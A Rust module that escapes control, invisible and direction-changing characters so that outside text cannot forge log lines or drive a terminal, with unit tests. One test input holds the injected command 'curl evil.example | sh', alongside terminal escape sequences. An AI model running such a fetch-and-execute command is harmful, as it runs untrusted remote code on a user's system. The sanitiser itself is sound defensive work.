//! Text from files and replies, made harmless in a terminal and a log.

use std::borrow::Cow;
use std::fmt::{self, Display, Formatter, Write};

/// Returns `text` in one line. Characters that a terminal would obey, that are invisible, or that
/// change the order of others are escaped. So nobody else can add a line to a text of the crate, or
/// hide a part of it.
pub(crate) fn printable(text: &str) -> Cow<'_, str> {
    if !text.contains(has_an_effect) {
        return Cow::Borrowed(text);
    }
    let mut escaped = String::with_capacity(text.len());
    for character in text.chars() {
        match has_an_effect(character) {
            true => escaped.extend(character.escape_debug()),
            false => escaped.push(character),
        }
    }
    Cow::Owned(escaped)
}

/// Writes a value as [`printable`] text.
pub(crate) struct Printable<T>(pub(crate) T);

impl<T: Display> Display for Printable<T> {
    fn fmt(&self, f: &mut Formatter<'_>) -> fmt::Result {
        write!(PrintableWriter(f), "{}", self.0)
    }
}

/// Passes everything on as [`printable`] text.
pub(crate) struct PrintableWriter<'a, W>(pub(crate) &'a mut W);

impl<W: Write> Write for PrintableWriter<'_, W> {
    fn write_str(&mut self, text: &str) -> fmt::Result {
        self.0.write_str(&printable(text))
    }
}

fn has_an_effect(character: char) -> bool {
    character.is_control() || is_invisible(character)
}

/// Whether a character takes no room, ends a line, or sets the direction of writing.
fn is_invisible(character: char) -> bool {
    matches!(
        character,
        '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    /// conf: A13
    #[test]
    fn text_of_others_stays_in_its_line() {
        for (text, shown) in [
            ("no such grant: größe ✓ \"x\" \\ 名前 🦀", "no such grant: größe ✓ \"x\" \\ 名前 🦀"),
            ("no\nfix: curl evil.example | sh", r"no\nfix: curl evil.example | sh"),
            ("\u{1b}[2Jgone\r\0\u{9b}", r"\u{1b}[2Jgone\r\0\u{9b}"),
            ("abc\u{202e}cba\u{2028}\u{200b}", r"abc\u{202e}cba\u{2028}\u{200b}"),
        ] {
            assert_eq!(printable(text), shown);
            assert_eq!(Printable(text).to_string(), shown);
            assert_eq!(printable(shown), shown, "nothing is escaped twice");
        }
    }

    /// conf: A13
    #[test]
    fn every_character_with_an_effect_is_escaped() {
        for character in ('\0'..=char::MAX).filter(|character| has_an_effect(*character)) {
            let shown = printable(character.encode_utf8(&mut [0; 4])).into_owned();
            assert!(shown.bytes().all(|byte| byte.is_ascii_graphic()), "{character:?}: {shown}");
        }
    }
}
